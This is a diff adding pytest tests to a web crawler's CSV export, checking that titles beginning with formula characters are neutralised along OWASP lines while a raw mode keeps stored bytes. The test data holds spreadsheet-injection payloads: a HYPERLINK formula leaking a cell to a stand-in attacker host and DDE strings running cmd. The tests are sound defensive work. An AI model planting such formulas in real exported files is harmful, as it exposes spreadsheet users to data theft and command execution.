@@ -268,3 +268,45 @@ def test_caps_on_links_per_page_and_entries_per_listing(site, db_url):
     assert sum(base + p in stored for p in [*GOOD, *extra]) == 4
     assert run.skips.get("over_links_per_page") == 3 and run.skips.get("over_entries_per_listing") == 3, run.skips
     assert "links_per_page=1" in result.stdout and "entries_per_listing=1" in result.stdout, result.stdout
+
+
+# 5: exports ---------------------------------------------------------------------------------
+
+FORMULA_TITLES = ['=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
+                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"]
+
+
+def test_csv_export_neutralises_formulas(site, db_url):
+    import csv
+    import io
+
+    from tests.conftest import run_cli
+
+    for n, title in enumerate(FORMULA_TITLES):
+        site.article(f"/news/2025/09/{n + 1:02d}/formula-title-number-{n}/", title, 120 + n)
+    with serving(site) as sites:
+        crawl_ok(sites, db_url)
+    safe = run_cli("export", "--db", db_url, "--format", "csv")
+    raw = run_cli("export", "--db", db_url, "--format", "csv", "--raw")
+    assert safe.returncode == 0 and raw.returncode == 0, safe.stderr + raw.stderr
+    safe_rows = list(csv.DictReader(io.StringIO(safe.stdout)))
+    raw_rows = list(csv.DictReader(io.StringIO(raw.stdout)))
+    assert len(safe_rows) == len(raw_rows) == len(GOOD) + len(FORMULA_TITLES)
+    for row in safe_rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    safe_titles = {row["title"] for row in safe_rows}
+    raw_titles = {row["title"] for row in raw_rows}
+    for title in FORMULA_TITLES:
+        assert "'" + title in safe_titles, (title, safe_titles)
+        assert title in raw_titles  # --raw: the bytes as stored
+    assert {row["id"] for row in safe_rows} == {row["id"] for row in raw_rows}
+
+
+def test_neutralise_cell_follows_owasp():
+    from crawler.export import neutralise_cell
+
+    for trigger in ("=", "+", "-", "@", "\t", "\r"):
+        assert neutralise_cell(trigger + "1+1") == "'" + trigger + "1+1"
+    assert neutralise_cell("Plain title") == "Plain title"
+    assert neutralise_cell(-0.5) == -0.5 and neutralise_cell(None) is None
